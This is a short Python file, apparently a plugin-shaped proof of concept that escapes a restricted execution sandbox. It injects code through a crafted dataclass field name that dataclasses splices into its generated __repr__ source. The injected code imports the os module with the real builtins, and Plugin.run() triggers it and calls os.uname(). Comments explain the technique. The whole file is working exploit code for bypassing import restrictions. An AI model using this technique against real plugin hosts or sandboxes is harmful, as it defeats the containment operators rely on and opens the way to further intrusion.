import dataclasses

U = "_" * 2
BOX = []
# A field name is pasted into the source dataclasses exec()s for __repr__:
#   return self.__class__.__qualname__ + f"(NAME={self.NAME!r})"
# With NAME = '"+X+"' the line becomes  f"(" + X + "={self." + X + "!r})"  -> X is code.
X = "(self.BOXREF.append(" + U + "import" + U + "('os')) or '')"
NAME = '"+' + X + '+"'

ns = {U + "annotations" + U: {NAME: int}, "__module__": "not-in-sys-modules", "__doc__": "d",
      "BOXREF": BOX}
D = dataclasses.dataclass(type("D", (), ns), init=False, eq=False)

class Plugin:
    def run(self):
        repr(D())        # runs X with the *real* builtins (exec globals = {})
        os = BOX[0]
        return {"os": repr(os), "uname": os.uname().sysname}
